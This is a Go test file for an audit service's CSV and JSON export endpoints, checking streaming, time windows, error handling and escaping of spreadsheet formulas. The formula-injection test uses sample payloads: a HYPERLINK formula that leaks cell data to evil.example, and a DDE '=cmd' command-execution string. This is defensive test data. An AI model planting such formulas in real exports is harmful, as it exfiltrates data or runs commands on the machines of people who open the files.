package web

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/auditd/auditd/internal/eventstore"
)

func TestExportCSVStreamsTheTrailAndTheState(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "counter-1", 1203, tlT0) // more than two export pages

	rec := b.get("/streams/counter-1/export.csv", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	if cd := rec.Header().Get("Content-Disposition"); cd != `attachment; filename=counter-1-audit.csv` {
		t.Errorf("Content-Disposition = %q", cd)
	}
	if !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") || !rec.Flushed {
		t.Errorf("Content-Type %q flushed %v", rec.Header().Get("Content-Type"), rec.Flushed)
	}
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], ",") != strings.Join(exportCSVHeader, ",") {
		t.Errorf("header = %v", rows[0])
	}
	if len(rows) != 1+1203+1 {
		t.Fatalf("rows = %d", len(rows))
	}
	if r := rows[1]; r[0] != "event" || r[5] != "1" || r[6] != "Set" || r[9] != "agent:m.okafor" || r[13] != `{"note": "v1", "balance": 1}` {
		t.Errorf("first event row = %q", r)
	}
	last := rows[len(rows)-1]
	if last[0] != "state" || last[5] != "1203" || !strings.Contains(last[13], `"balance":1203`) || !strings.Contains(last[14], `"/balance"`) {
		t.Errorf("state row = %q", last)
	}

	// A window: events and the state at its end.
	from := tlT0.Add(10 * time.Hour).Format(time.RFC3339)
	to := tlT0.Add(20*time.Hour + 30*time.Minute).Format("2006-01-02T15:04")
	rows, err = csv.NewReader(b.get("/streams/counter-1/export.csv?from="+from+"&to="+to, "").Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+11+1 || rows[1][5] != "10" || rows[11][5] != "20" || rows[12][5] != "20" || !strings.Contains(rows[12][13], `"balance":20`) {
		t.Errorf("window rows = %d, first v%s, state %q", len(rows), rows[1][5], rows[len(rows)-1])
	}
}

func TestExportJSONIsValidAndWindowed(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "counter 1/ü", 700, tlT0)
	rec := b.get("/streams/counter%201%2F%C3%BC/export.json?to="+tlT0.Add(650*time.Hour).Format(time.RFC3339), "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	if cd := rec.Header().Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, "counter_1__-audit.json") {
		t.Errorf("Content-Disposition = %q", cd)
	}
	var doc struct {
		Stream struct {
			StreamID string `json:"stream_id"`
			Version  int    `json:"version"`
		} `json:"stream"`
		To     time.Time `json:"to"`
		Events []struct {
			Version int             `json:"version"`
			Payload json.RawMessage `json:"payload"`
		} `json:"events"`
		State struct {
			Version int                        `json:"version"`
			State   map[string]any             `json:"state"`
			Blame   map[string]json.RawMessage `json:"blame"`
		} `json:"state"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
		t.Fatalf("invalid JSON: %v", err)
	}
	if doc.Stream.StreamID != "counter 1/ü" || doc.Stream.Version != 700 || len(doc.Events) != 650 || doc.Events[649].Version != 650 ||
		doc.State.Version != 650 || doc.State.State["balance"] != float64(650) || len(doc.State.Blame) != 2 {
		t.Errorf("export = stream %+v, %d events, state %+v", doc.Stream, len(doc.Events), doc.State)
	}
}

func TestExportBadInput(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "c", 2, tlT0)
	if rec := b.get("/streams/nope/export.csv", "text/html"); rec.Code != http.StatusNotFound {
		t.Errorf("unknown stream = %d", rec.Code)
	}
	if rec := b.get("/streams/c/export.json?from=never", "application/json"); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "invalid from") {
		t.Errorf("bad from = %d %s", rec.Code, rec.Body)
	}
}

func TestExportCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	actors := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+2", "-160", "@SUM(A1)", "\tTAB", "\rCR", "plain", "'quoted"}
	for i, actor := range actors {
		meta, _ := json.Marshal(map[string]string{"actor": actor, "source": "=cmd|' /C calc'!A0"})
		if _, err := b.store.Append(t.Context(), "csv-1", "Wallet", i,
			eventstore.NewEvent{EventType: "=Set", Payload: json.RawMessage(`{"n": -160}`), Metadata: meta}); err != nil {
			t.Fatal(err)
		}
	}
	rec := b.get("/streams/csv-1/export.csv", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	body := rec.Body.String()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(actors)+1 {
		t.Fatalf("rows = %d", len(rows))
	}
	for i, actor := range actors {
		r := rows[1+i]
		want := actor
		if strings.ContainsRune("=+-@\t\r", rune(actor[0])) {
			want = "'" + actor
		}
		if r[9] != want || r[10] != "'=cmd|' /C calc'!A0" || r[6] != "'=Set" {
			t.Errorf("row %d: actor %q source %q type %q; want actor %q", i, r[9], r[10], r[6], want)
		}
		for col, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with %q", i, exportCSVHeader[col], cell[0])
			}
		}
	}
	if !strings.HasPrefix(body, `"`) || strings.Contains(body, `,=`) {
		t.Errorf("cells are not all quoted: %.200s", body)
	}
}

// FuzzCSVCell: whatever the text, a CSV reader reads the cell back as the
// text itself, or with one leading quote when it would start a formula.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "plain", `=HYPERLINK("x")`, "+1", "-160", "@A1", "\tx", "\rx", `"`, "a,b\nc", "'x", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		rows, err := csv.NewReader(strings.NewReader(csvCell(s) + ",x\r\n")).ReadAll()
		if err != nil {
			t.Fatalf("csvCell(%q) = %q: %v", s, csvCell(s), err)
		}
		want := s
		if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
			want = "'" + s
		}
		// encoding/csv reads \r\n inside a quoted field as \n.
		want = strings.ReplaceAll(want, "\r\n", "\n")
		if len(rows) != 1 || len(rows[0]) != 2 || rows[0][0] != want {
			t.Fatalf("csvCell(%q) reads back as %q, want %q", s, rows, want)
		}
	})
}
